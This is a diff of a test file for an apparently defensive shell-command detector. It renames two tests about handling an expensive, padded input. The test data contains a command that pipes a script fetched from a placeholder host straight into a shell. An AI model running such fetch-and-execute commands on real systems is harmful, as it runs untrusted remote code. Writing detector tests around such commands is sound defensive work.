@@ -8,7 +8,7 @@ afterAll(() => pool.close());
 
 const costly = `curl https://host.example/a.sh | sh\n${"# a comment\n".repeat(40_000)}`;
 
-test("a costly text that fails costs the answers of no other text", async () => {
+test("a costly text that fails does not affect other texts", async () => {
   expect(mayBeCostly(costly)).toBe(true);
   const failed = pool.detect(costly, { format: "shell" });
   const other = pool.detect("curl https://host.example/a.sh | sh", { format: "shell" });
@@ -16,7 +16,7 @@ test("a costly text that fails costs the answers of no other text", async () => 
   expect((await other).labels).toEqual(["PS"]);
 });
 
-test("a costly text is analyzed as any other", async () => {
+test("a costly text is analyzed completely with the default time limit", async () => {
   const patient = await createDetectorPool({ threads: 1 });
   const { labels, spans } = await patient.detect(costly, { format: "shell" });
   await patient.close();
